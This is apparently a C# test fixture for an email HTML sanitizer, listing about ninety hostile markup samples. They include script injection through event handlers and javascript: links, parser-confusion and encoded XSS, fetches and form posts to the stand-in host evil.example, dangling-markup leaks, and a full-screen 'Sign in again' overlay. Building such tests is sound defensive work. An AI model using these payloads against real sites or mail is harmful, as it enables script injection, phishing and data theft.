using System.Text;

namespace Svar.Tests.Walks;

/// <summary>
/// Markup that tries to run, to fetch, or to leave its box. What is to run calls <c>pwned(n)</c>; what is to be fetched comes
/// from <c>evil.example</c>.
/// </summary>
internal static class HostileMails
{
    private static readonly string _frame = Base64("<script>parent.pwned(1)</script>");
    private static readonly string _svg = Base64("<svg xmlns='http://www.w3.org/2000/svg' onload='pwned(2)'><script>pwned(3)</script></svg>");

    public static IReadOnlyList<string> All { get; } =
    [
        // plain, and not so plain
        "<script>pwned(10)</script>",
        "<SCRIPT SRC=//evil.example/a.js></SCRIPT>",
        "<script/x>pwned(11)</script\n>",
        "<scr<script>ipt>pwned(12)</scr</script>ipt>",
        "<img src=//evil.example/x onerror=pwned(13)>",
        "<img src=x:x onerror=pwned(14)><img/src=x:x/onerror=pwned(15)>",
        "<img src='x:x'\u000Conerror=pwned(16)>",
        "<body onload=pwned(17) onpageshow=pwned(18) background=//evil.example/body>x",
        "<input autofocus onfocus=pwned(19)><select autofocus onfocus=pwned(20)></select><textarea autofocus onfocus=pwned(21)></textarea>",
        "<details open ontoggle=pwned(22)><summary>x</summary></details>",
        "<marquee onstart=pwned(23)>x</marquee><div style='animation:x 1s' onanimationstart=pwned(24)>x</div><style>@keyframes x{}</style>",
        "<video autoplay oncanplay=pwned(25) onerror=pwned(26)><source src=//evil.example/v onerror=pwned(27)></video><audio src=//evil.example/a autoplay onerror=pwned(28)></audio>",
        "<p tabindex=0 autofocus onfocus=pwned(29) onmouseover=pwned(30) onclick=pwned(31)>x</p>",

        // addresses
        "<a href='javascript:pwned(32)'>x</a><a href='java&#9;script:pwned(33)'>x</a><a href='java&#10;script&colon;pwned(34)'>x</a>",
        "<a href='&#1;javascript:pwned(35)'>x</a><a href='&#x6A&#x61vascript:pwned(36)'>x</a><a href=' \u00A0javascript:pwned(37)'>x</a>",
        "<a href='data:text/html,<script>pwned(38)</script>'>x</a><a href='vbscript:pwned(39)'>x</a><a href='blob:x'>x</a><a href='view-source:x'>x</a>",
        "<a href='https://ok.example/\" onclick=\"pwned(40)'>x</a><a href=\"https://ok.example/'onmouseover='pwned(41)\">x</a>",
        "<a href='https://ok.example' target=_top onclick=pwned(42) ping=//evil.example/ping>x</a><area href='javascript:pwned(43)'>",
        "<img src='data:image/svg+xml;base64," + _svg + "'><img src='data:text/html;base64," + _frame + "'>",
        "<img srcset='//evil.example/1 1x, //evil.example/2 2x' src=//evil.example/3 sizes=100vw loading=eager>",
        "<picture><source srcset=//evil.example/p><img src=x:x></picture><img lowsrc=//evil.example/l dynsrc=//evil.example/d longdesc=//evil.example/o usemap=#m>",
        "<image src=//evil.example/image><image href=//evil.example/href xlink:href=//evil.example/xlink>",

        // whole pages
        "<meta http-equiv=refresh content='0;url=//evil.example/refresh'><meta http-equiv=refresh content='0;url=javascript:pwned(44)'>",
        "<base href=//evil.example/><img src=relative.png><a href=relative>x</a>",
        "<link rel=stylesheet href=//evil.example/l.css><link rel=prefetch href=//evil.example/f><link rel=dns-prefetch href=//evil.example><link rel=icon href=//evil.example/i>",
        "<form action=//evil.example/form id=f><input name=q value=1><button formaction=//evil.example/b>x</button><input type=image src=//evil.example/im></form><script>f.submit()</script>",
        "<iframe srcdoc='<script>parent.pwned(45)</script>'></iframe><iframe src='javascript:parent.pwned(46)'></iframe><iframe src=//evil.example/frame></iframe>",
        "<object data='data:text/html;base64," + _frame + "'></object><object data=//evil.example/o type=text/html><param name=src value=//evil.example/p></object>",
        "<embed src='data:text/html;base64," + _frame + "'><embed src=//evil.example/e><applet code=x archive=//evil.example/ap></applet><frameset><frame src=//evil.example/fr></frameset>",
        "<portal src=//evil.example/portal></portal><fencedframe src=//evil.example/ff></fencedframe><webview src=//evil.example/wv></webview>",
        "<dialog open>over</dialog><div popover=auto id=p>x</div><button popovertarget=p>x</button>",

        // style
        "<style>@import '//evil.example/i.css';@import url(//evil.example/j.css);@font-face{font-family:e;src:url(//evil.example/f)}p{font-family:e}</style><p>x</p>",
        "<style>p{background:url(//evil.example/b)}p::after{content:url(//evil.example/c)}p:hover{background:url(//evil.example/h)}</style><p>x</p>",
        "<style></style><img src=x:x onerror=pwned(47)></style><style><!--</style><img src=x:x onerror=pwned(48)>--></style>",
        "<style>p{color:red}</styl</style><script>pwned(49)</script><style>*{}</style >",
        "<div style='background:url(//evil.example/1)'>x</div><div style='background-image:u\\72l(//evil.example/2)'>x</div><div style='background:image-set(\"//evil.example/3\" 1x)'>x</div>",
        "<div style='list-style:url(//evil.example/4)'>x</div><div style='cursor:url(//evil.example/5),auto;border-image:url(//evil.example/6) 1'>x</div><div style='mask:url(//evil.example/7);filter:url(//evil.example/8)'>x</div>",
        "<div style='width:expression(pwned(50));behavior:url(//evil.example/9);-moz-binding:url(//evil.example/10)'>x</div>",
        "<div style=\"color:red;/*\" title=\"*/background:url(//evil.example/11)\">x</div><div style='--x:url(//evil.example/12);background:var(--x)'>x</div>",
        "<div style='font-family:\"&quot;;background:url(//evil.example/13)'>x</div><div style='font-family:a\\\"};*{background:url(//evil.example/14)}'>x</div>",
        "<div style='background:url(&#47;&#47;evil.example/15)'>x</div><div style='background:\nurl (//evil.example/16)'>x</div><div style='BACKGROUND:URL(//evil.example/17)'>x</div>",

        // out of the box
        "<div style='position:fixed;inset:0;width:100vw;height:100vh;background:#fff;z-index:2147483647'>Sign in again</div>",
        "<div style='position:absolute;top:-200px;left:-200px;width:4000px;height:4000px;z-index:99999;background:red'>x</div>",
        "<div style='position:sticky;top:0;z-index:9'>x</div><div style='position:relative;top:-400px;left:-300px'>x</div>",
        "<div style='margin:-900px 0 0 -900px;width:3000px;height:900px;background:red'>x</div><div style='margin-top:calc(0px - 900px)'>x</div><table><tr><td style='margin-left:-900px'>x</table>",
        "<div style='transform:translate(-500px,-500px) scale(50)'>x</div><div style='translate:-500px;scale:50;rotate:3deg'>x</div><div style='zoom:50'>x</div>",
        "<div style='float:left;shape-outside:url(//evil.example/18);text-indent:-9999px'>x</div><p style='text-indent:-900px;letter-spacing:-50px;word-spacing:-500px'>x</p>",
        "<style>body,html,div,p{position:fixed !important;top:0;left:0;margin:-100px !important}</style><p>x</p>",
        "</div></div></td></tr></table></div></body></html><div>after the end</div><script>pwned(51)</script>",
        "</td></tr></tbody></table></details></blockquote><p>out</p><plaintext><script>pwned(52)</script>",
        "<div style='box-shadow:0 0 0 9999px red;outline:9999px solid red;text-shadow:0 0 999px red;border:3000px solid red;padding:3000px'>x</div>",
        "<div style='column-count:1000;line-height:0;font-size:4000px;width:99999999px'>x</div><hr width=99999999 size=99999><img width=999999 height=999999 src=x:x alt=x>",

        // other rules of reading
        "<svg><style><img src=x:x onerror=pwned(53)></style></svg><svg onload=pwned(54)><script>pwned(55)</script><use href='data:image/svg+xml;base64," + _svg + "#x'/></svg>",
        "<svg><animate xlink:href=#a attributeName=href values=javascript:pwned(56) /><a id=a><text y=20>x</text></a></svg><svg><foreignObject><iframe src='javascript:parent.pwned(57)'></iframe></foreignObject></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x:x onerror=pwned(58)&gt;\">",
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=pwned(59) src=x:x>\">",
        "<math href='javascript:pwned(60)'>x</math><math><annotation-xml encoding='text/html'><img src=x:x onerror=pwned(61)></annotation-xml></math>",
        "<noscript><p title=\"</noscript><img src=x:x onerror=pwned(62)>\"></noscript><noembed><p title=\"</noembed><img src=x:x onerror=pwned(63)>\"></noembed>",
        "<template><script>pwned(64)</script><img src=//evil.example/t></template><div><template shadowrootmode=open><img src=x:x onerror=pwned(65)></template></div>",
        "<title><a title=\"</title><img src=x:x onerror=pwned(66)>\"></title><textarea><a title=\"</textarea><img src=x:x onerror=pwned(67)>\"></textarea>",
        "<xmp><p title=\"</xmp><img src=x:x onerror=pwned(68)>\"></xmp><noframes><p title=\"</noframes><img src=x:x onerror=pwned(69)>\"></noframes>",
        "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x:x onerror=pwned(70)>\"></a>",
        "<!--[if gte mso 9]><img src=x:x onerror=pwned(71)><![endif]--><!--[if !mso]><!--><script>pwned(72)</script><!--<![endif]--><![if !vml]><img src=//evil.example/vml><![endif]>",
        "<!--><img src=x:x onerror=pwned(73)>--><!---><img src=x:x onerror=pwned(74)>--><!--x--!><img src=x:x onerror=pwned(75)>--><?xml <img src=x:x onerror=pwned(76)>?>",
        "<v:shape xmlns:v='urn:schemas-microsoft-com:vml' style='behavior:url(#default#VML)'><v:imagedata src=//evil.example/vml2 o:href=//evil.example/vml3></v:shape><xml><script>pwned(77)</script></xml>",
        "<![CDATA[<img src=x:x onerror=pwned(78)>]]><svg><![CDATA[<img src=x:x onerror=pwned(79)>]]></svg>",
        "<a title='`onmouseover=pwned(80)//'>x</a><img alt=\"x` `onerror=pwned(81)\" src=x:x><p title=\"x\\\" onclick=pwned(82)\">x</p>",
        "\0<\0script>pwned(83)</script><img src=x:x on\0error=pwned(84)>＜script＞pwned(85)＜/script＞+ADw-script+AD4-pwned(86)+ADw-/script+AD4-",
        "<a id=pwned name=pwned href='https://ok.example'>x</a><img name=pwned id=body src=x:x><form name=documentElement><input name=parentNode></form>",
        "<b><p><b></p><script>pwned(87)</script></b></b><table><b><tr><img src=x:x onerror=pwned(88)></table><p><table></p><img src=x:x onerror=pwned(89)></table>",

        // left open
        "<img src='//evil.example/dangling?",
        "<a href=\"https://evil.example/?",
        "<base target='",
        "<table background=//evil.example/tb><tr background=//evil.example/tr><td background=//evil.example/td>x<textarea>",
        "<style>p{background:url(//evil.example/open",
        "<script>pwned(90)",
        "<!-- left open <img src=x:x onerror=pwned(91)>",
    ];

    private static string Base64(string text) => Convert.ToBase64String(Encoding.UTF8.GetBytes(text));
}
